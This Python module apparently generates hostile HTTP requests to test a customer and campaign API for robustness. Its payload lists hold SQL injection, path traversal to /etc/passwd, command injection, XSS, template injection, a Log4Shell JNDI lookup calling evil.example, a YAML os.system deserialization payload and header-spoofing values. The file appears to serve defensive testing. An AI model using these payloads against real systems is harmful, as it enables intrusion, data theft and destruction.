"""Calls that mean no good: paths, headers, bodies, numbers and names of people who try doors."""

import itertools
import json
import random
from collections.abc import Iterator
from dataclasses import dataclass, field

NAMES = (
    "' OR 1=1 --", "'; drop table orders; --", "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%00", "\x00",
    "\r\nSet-Cookie: a=b", "con", "~root", "|id", "`id`",
    "=cmd|' /C calc'!A0", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "\u202egnp.exe",
    "a" * 5000, "\U0001f6b2" * 100, "-1", "1e309", "NaN", "null", "true", "[]", "%F0%9F%9A%B2",
)  # fmt: skip
PATHS = (
    "/v1/customers/{}/offers", "/v1/customers/{}/export", "/v1/customers/{}/consent/email", "/v1/customers/{}/holdout",
    "/v1/products/{}", "/v1/campaigns/{}", "/v1/campaigns/{}/impact", "/v1/campaigns/{}/customers/{}", "/v1/tables/{}",
    "/v1/results/{}", "/{}", "/v1/{}", "/setup?token={}", "/v1/keys/{}", "/static/{}", "/unsubscribe/{}",
)  # fmt: skip
POSTS = (
    "/v1/events",
    "/v1/products",
    "/v1/consents",
    "/v1/recommendations",
    "/v1/campaigns/drafts",
    "/v1/keys",
)
BODIES = (
    b"", b"{", b"[]", b"null", b"\xff\xfe\x00", b"[" * 5000, b'{"a":' * 2000, b'{"batch": "x"}', b'{"batch": []}',
    b'{"batch": [null]}', b'{"batch": [{"event": 1, "messageId": {}}]}', b'{"products": [{"product_id": "\\u0000"}]}',
    b'{"products": [{"product_id": "a", "price_cents": 1e400}]}', b'{"products": [{"product_id": "a", "stock": -1}]}',
    b'{"name": "x", "yaml": "!!python/object/apply:os.system [id]"}', b'{"name": "x", "yaml": "a: &a [*a]"}',
    b'{"name": "../../x", "yaml": "steps: {}"}', b'{"limit": 99999999999999}',
    b'{"customer_id": "a", "channel": "moon"}',
    b'{"name": "x", "scopes": ["keys", "root"]}', b'{"name": "x", "role": "administrator", "origins": ["*"]}',
)  # fmt: skip
HEADERS: tuple[dict[str, str], ...] = (
    {}, {"Authorization": "Basic YTpi"}, {"Authorization": "Bearer " + "x" * 5000},
    {"Authorization": "Bearer sk_' or 1=1"},
    {"X-Forwarded-For": "127.0.0.1, 10.0.0.1"}, {"Content-Type": "text/xml"}, {"Idempotency-Key": "x" * 500},
    {"Content-Type": "multipart/form-data; boundary=x"}, {"Accept": "*/*" * 500}, {"Origin": "https://evil.example"},
    {"X-HTTP-Method-Override": "DELETE"}, {"Host": "evil.example"}, {"Cookie": "session=' or 1=1"},
)  # fmt: skip
METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "PROPFIND")


@dataclass(frozen=True)
class Hostile:
    """One call; ``with_key`` comes with a key that may do everything."""

    method: str
    path: str
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)
    with_key: bool = True


def hostile(count: int, seed: int = 1) -> Iterator[Hostile]:
    """So many calls, the same for the same seed."""
    rng = random.Random(seed)
    every = [
        *(Hostile("GET", path.replace("{}", _quoted(name))) for path, name in itertools.product(PATHS, NAMES)),
        *(Hostile("POST", path, body, json_) for path, body in itertools.product(POSTS, BODIES) for json_ in (_JSON,)),
        *(Hostile(method, path.replace("{}", "x")) for method, path in itertools.product(METHODS, (*PATHS, *POSTS))),
        *(
            Hostile("POST", path, json.dumps({"batch": [], "name": name}).encode(), {**_JSON, **head}, with_key=False)
            for path, name, head in itertools.product(POSTS, NAMES[:6], HEADERS)
        ),
    ]  # fmt: skip
    yield from rng.sample(every, count)


_JSON = {"Content-Type": "application/json"}


def _quoted(name: str) -> str:
    """As it may stand in a call at all; what is percent-encoded already stays."""
    return "".join(
        one if 32 < ord(one) < 127 and one not in "#?" else "".join(f"%{byte:02X}" for byte in one.encode())
        for one in name
    )
